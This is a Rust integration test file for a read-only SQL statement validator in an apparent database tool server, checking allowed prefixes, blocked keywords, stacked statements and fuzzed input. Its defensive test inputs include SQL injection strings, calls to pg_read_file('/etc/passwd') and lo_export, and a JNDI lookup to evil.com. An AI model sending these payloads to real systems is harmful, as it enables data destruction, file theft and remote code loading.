//! Integration tests for read-only statement classification.
//!
//! Covers the acceptance rules the query, explain and export tools rely on,
//! plus randomized inputs that must never panic the classifier.

use db_insight_mcp::error::DbError;
use db_insight_mcp::safety::statement::MAX_STATEMENT_LENGTH;
use db_insight_mcp::safety::{RejectionKind, SecurityPolicy, validate_statement};
use rand::Rng;
use rand::distributions::Alphanumeric;

const ALLOWED: &[&str] = &["SELECT", "WITH", "EXPLAIN", "SHOW"];

fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

// =========================================================================
// Accepted statements
// =========================================================================

#[test]
fn test_accepts_each_allowed_prefix() {
    for sql in [
        "SELECT 1",
        "with t as (select 1) select * from t",
        "EXPLAIN SELECT * FROM users",
        "SHOW search_path",
    ] {
        let outcome = validate_statement(sql, ALLOWED);
        assert!(outcome.accepted, "rejected {:?}: {:?}", sql, outcome.reason);
        assert!(outcome.reason.is_none());
    }
}

#[test]
fn test_whitespace_is_collapsed() {
    let outcome = validate_statement("  SELECT\n\tid,\r\n  name   FROM users  ", ALLOWED);
    assert_eq!(
        outcome.normalized_statement.as_deref(),
        Some("SELECT id, name FROM users")
    );
}

#[test]
fn test_single_trailing_separator_is_tolerated() {
    let outcome = validate_statement("SELECT * FROM users;", ALLOWED);
    assert!(outcome.accepted);
    assert_eq!(
        outcome.normalized_statement.as_deref(),
        Some("SELECT * FROM users;")
    );
}

#[test]
fn test_keyword_substrings_are_not_blocked() {
    for sql in [
        "SELECT deleted_at FROM events",
        "SELECT created_by, updated_at FROM audit",
        "SELECT * FROM droplets",
        "SELECT callback_url FROM hooks",
    ] {
        let outcome = validate_statement(sql, ALLOWED);
        assert!(outcome.accepted, "rejected {:?}: {:?}", sql, outcome.reason);
    }
}

// =========================================================================
// Rejected statements
// =========================================================================

#[test]
fn test_blocked_keywords_any_case() {
    for (sql, keyword) in [
        ("update users set x=1", "UPDATE"),
        ("SELECT 1; DROP TABLE users", "DROP"),
        ("Insert Into t Values (1)", "INSERT"),
        ("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x", "DELETE"),
        ("SELECT 1 FROM t; TRUNCATE t", "TRUNCATE"),
        ("SET  ROLE admin", "SET"),
    ] {
        let outcome = validate_statement(sql, ALLOWED);
        assert!(!outcome.accepted, "accepted {:?}", sql);
        assert_eq!(outcome.rejection, Some(RejectionKind::BlockedKeyword));
        assert!(outcome.normalized_statement.is_none());
        let reason = outcome.reason.unwrap();
        assert!(reason.contains(keyword), "{:?} missing {}", reason, keyword);
    }
}

#[test]
fn test_dangerous_functions_are_rejected() {
    for sql in [
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT PG_LS_DIR ('.')",
        "SELECT pg_terminate_backend(123)",
        "SELECT lo_export(1234, '/tmp/x')",
    ] {
        let outcome = validate_statement(sql, ALLOWED);
        assert!(!outcome.accepted, "accepted {:?}", sql);
        assert_eq!(outcome.rejection, Some(RejectionKind::DangerousPattern));
    }
}

#[test]
fn test_multiple_statements_are_rejected() {
    for sql in ["SELECT 1; SELECT 2", "SELECT 1;;", "SELECT ';' FROM t; SELECT 2;"] {
        let outcome = validate_statement(sql, ALLOWED);
        assert!(!outcome.accepted, "accepted {:?}", sql);
        assert_eq!(outcome.rejection, Some(RejectionKind::MultipleStatements));
    }
}

#[test]
fn test_prefix_requires_word_boundary() {
    let outcome = validate_statement("SELECTED FROM t", ALLOWED);
    assert!(!outcome.accepted);
    assert_eq!(outcome.rejection, Some(RejectionKind::PrefixNotAllowed));

    let outcome = validate_statement("SELECT(1)", ALLOWED);
    assert!(outcome.accepted);
}

#[test]
fn test_prefix_not_allowed_lists_prefixes() {
    let outcome = validate_statement("VALUES (1)", &["select", "with"]);
    assert_eq!(outcome.rejection, Some(RejectionKind::PrefixNotAllowed));
    let reason = outcome.reason.unwrap();
    assert!(reason.contains("SELECT"));
    assert!(reason.contains("WITH"));
}

#[test]
fn test_empty_and_blank_statements() {
    for sql in ["", "   ", "\n\r\t"] {
        let outcome = validate_statement(sql, ALLOWED);
        assert!(!outcome.accepted);
        assert_eq!(outcome.rejection, Some(RejectionKind::Empty));
    }
}

#[test]
fn test_oversized_statement_is_resource_exceeded() {
    let sql = format!("SELECT '{}'", "a".repeat(MAX_STATEMENT_LENGTH));
    let outcome = validate_statement(&sql, ALLOWED);
    assert_eq!(outcome.rejection, Some(RejectionKind::TooLong));
    assert!(matches!(
        outcome.into_result(),
        Err(DbError::ResourceExceeded { .. })
    ));
}

#[test]
fn test_rejections_map_to_rejected_error() {
    let err = validate_statement("DROP TABLE t", ALLOWED)
        .into_result()
        .unwrap_err();
    assert!(matches!(err, DbError::Rejected { .. }));
    assert!(err.is_rejection());
}

#[test]
fn test_policy_restricts_prefixes() {
    let policy = SecurityPolicy::new(&["SELECT"], 100).unwrap();
    assert!(policy.validate("SELECT 1").accepted);
    assert!(!policy.validate("SHOW search_path").accepted);
    assert!(!policy.validate("WITH t AS (SELECT 1) SELECT * FROM t").accepted);
}

// =========================================================================
// Randomized inputs
// =========================================================================

#[test]
fn fuzz_random_text_never_panics() {
    let mut rng = rand::thread_rng();
    let alphabet: Vec<char> = "SELECTWITHDROPselect ;'\"()-*/\n\t_,.=0123456789üöÄ"
        .chars()
        .collect();

    for _ in 0..500 {
        let len = rng.gen_range(0..200);
        let sql: String = (0..len)
            .map(|_| alphabet[rng.gen_range(0..alphabet.len())])
            .collect();
        let outcome = validate_statement(&sql, ALLOWED);

        if outcome.accepted {
            let normalized = outcome.normalized_statement.expect("accepted without statement");
            let upper = normalized.to_ascii_uppercase();
            assert!(
                ALLOWED.iter().any(|p| upper.starts_with(*p)),
                "accepted with bad prefix: {:?}",
                normalized
            );
            assert!(normalized.matches(';').count() <= 1);
        } else {
            assert!(outcome.reason.is_some());
            assert!(outcome.normalized_statement.is_none());
        }
    }
}

#[test]
fn fuzz_random_suffix_after_select() {
    for len in [0, 1, 10, 100, 1000] {
        let sql = format!("SELECT {}", random_string(len));
        let outcome = validate_statement(&sql, ALLOWED);
        // Alphanumeric noise can only trip the keyword list, never panic.
        if !outcome.accepted {
            assert_eq!(outcome.rejection, Some(RejectionKind::BlockedKeyword));
        }
    }
}

#[test]
fn fuzz_injection_strings_are_rejected() {
    for sql in [
        "'; DROP TABLE users--",
        "1' UNION SELECT NULL, NULL--",
        "SELECT 1; DELETE FROM users",
        "SELECT * FROM t WHERE a = 1;UPDATE t SET a = 2",
        "${jndi:ldap://evil.com/a}",
        "\0",
    ] {
        assert!(!validate_statement(sql, ALLOWED).accepted, "accepted {:?}", sql);
    }
}
